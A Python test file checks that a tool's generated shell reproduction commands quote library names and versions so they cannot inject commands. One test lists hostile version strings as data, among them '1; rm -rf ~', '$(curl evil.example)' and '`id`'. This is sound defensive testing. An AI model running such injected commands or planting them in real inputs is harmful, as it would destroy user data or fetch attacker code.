"""Commands that a reader pastes into a shell, made of what a bundle of others says."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.report.conftest import EVIL, QUICK

from surefoot.report.reproduce import fingerprints, reproduce_lines

TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=30)


def test_versions_first_then_what_verifies_runs_and_prints_it():
    made = {"libraries": {"numpy": "2.1.0", "torch": "2.13.0+cpu", "openvino": None}}
    assert reproduce_lines(made, Path("surefoot-run")) == (
        "pip install numpy==2.1.0 torch==2.13.0+cpu  # the versions of this run",
        "surefoot verify surefoot-run  # are the files whole, and do its claims come out again",
        "surefoot run plan.toml  # the bundle's plan, put where its data and model lie",
        "surefoot report surefoot-run --format json  # the numbers of this page",
    )


@pytest.mark.parametrize(
    "made", [{}, {"libraries": {}}, {"libraries": None}, {"libraries": {"a": ""}}]
)
def test_without_versions_nothing_is_installed(made):
    lines = reproduce_lines(made, Path("run"))
    assert len(lines) == 3
    assert lines[0].startswith("surefoot verify run ")


@QUICK
@given(TEXTS, TEXTS)
def test_whatever_a_bundle_calls_a_library_is_one_word_of_the_shell(name, version):
    line = reproduce_lines({"libraries": {name: version, "numpy": "2"}}, Path("run"))[0]
    words = shlex.split(line, comments=True)
    assert words == ["pip", "install", f"{name}=={version}", "numpy==2"]


@pytest.mark.parametrize(
    "version", ["1; rm -rf ~", "$(curl evil.example)", "`id`", "1 --index-url evil", "1 # x", EVIL]
)
def test_a_version_cannot_run_a_command(version):
    line = reproduce_lines({"libraries": {"numpy": version}}, Path("run"))[0]
    assert shlex.split(line, comments=True)[2:] == [f"numpy=={version}"]
    assert f"'numpy=={version}'" in line


@QUICK
@given(TEXTS)
def test_a_bundle_may_be_called_anything(name):
    path = Path("runs") / name
    verify, _, report = reproduce_lines({}, path)
    assert shlex.split(verify, comments=True) == ["surefoot", "verify", str(path)]
    assert shlex.split(report, comments=True)[:3] == ["surefoot", "report", str(path)]


def test_fingerprints_are_those_of_every_model_and_test_set():
    data = {
        "candidates": [
            {"name": n, "fingerprint": p} for n, p in (("baseline", "a1"), (EVIL, "b2"))
        ],
        "rows": {"main": "c3", "far": "d4"},
    }
    assert fingerprints(data) == [
        ("model", "baseline", "a1"),
        ("model", EVIL, "b2"),
        ("test set", "main", "c3"),
        ("test set", "far", "d4"),
    ]
    assert fingerprints(data | {"rows": None}) == fingerprints(data)[:2]
